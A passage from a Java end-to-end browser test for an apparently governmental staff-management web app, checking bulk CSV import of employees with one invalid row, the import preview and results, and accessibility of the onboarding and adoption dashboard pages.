                .map(r -> r.getText().replaceAll("(?s).*?\\(([a-z0-9._-]+)\\).*", "$1")).toList();
    }

    // --- bulk import of employees and posts; the onboarding tracker (issue 6, onboarding) ------------

    /**
     * The administrator uploads a CSV whose second row names a section that does not exist: the
     * preview shows that row's reason, the good row is imported behind a progress bar, and its
     * person is then a user (the bad row's is not). The import, onboarding and adoption pages pass axe.
     */
    @Test
    void adminImportsACsvWithABadRowSeesWhyAndTheGoodRowBecomesAUser() throws Exception {
        String axe = axeScript();
        String code = RUN.toUpperCase(java.util.Locale.ROOT);
        long employee = 10_000_000L + System.currentTimeMillis() % 80_000_000L;
        Path csv = Files.createTempFile("staff", ".csv");
        Files.writeString(csv, "department,section,post,post_en,post_hi,reports_to,employee_code,name_en,name_hi,login\n"
                + "LR,SUR,LR-SUR-BR-" + code + ",Patwari,पटवारी,LR-SUR-SO,CG" + employee + ",Sunita Markam,सुनीता मरकाम,sunita." + RUN + "\n"
                + "LR,NOPE,LR-NOPE-" + code + ",Patwari,पटवारी,,CG" + (employee + 1) + ",Rakesh Netam,राकेश नेताम,rakesh." + RUN + "\n",
                StandardCharsets.UTF_8);

        logIn("admin", Deployments.DEMO_PASSWORD);
        clickAndLoad("topbar:lang-en");
        open("admin/import.xhtml");
        browser.findElement(By.id("upload:file")).sendKeys(csv.toString());
        clickAndLoad("upload:check");
        waitForText("section: The department LR has no section with the code NOPE.");
        assertThat(pageText()).contains("To import: 1 · already present: 0 · with errors: 1");
        screenshot("import-preview.png");
        assertNoViolations(axe, "import preview");

        type("preview:password", "First-Pass-2026");
        click("preview:start");
        waitForText("Import finished: 1 posts and 1 users created; 0 rows were already present.");
        assertThat(pageText()).contains("To import: 0 · already present: 1 · with errors: 1");
        screenshot("import-done.png");
        openUserAsAdmin("sunita." + RUN);
        assertThat(value("edit:nameHi")).isEqualTo("सुनीता मरकाम");
        type("list:search", "rakesh." + RUN);
        wait.until(d -> d.findElement(By.id("list:users_data")).getText().contains("Nothing found."));

        open("mis/onboarding.xhtml");
        waitForText("Departments still lacking something");
        assertThat(pageText()).contains("LR — Land Records").containsPattern("District: \\d+% of the onboarding steps done.");
        screenshot("onboarding.png");
        assertNoViolations(axe, "onboarding tracker");
        open("mis/adoption.xhtml");
        waitForText("Trend of the last 12 weeks");
        screenshot("adoption.png");
        assertNoViolations(axe, "adoption");
    }
}
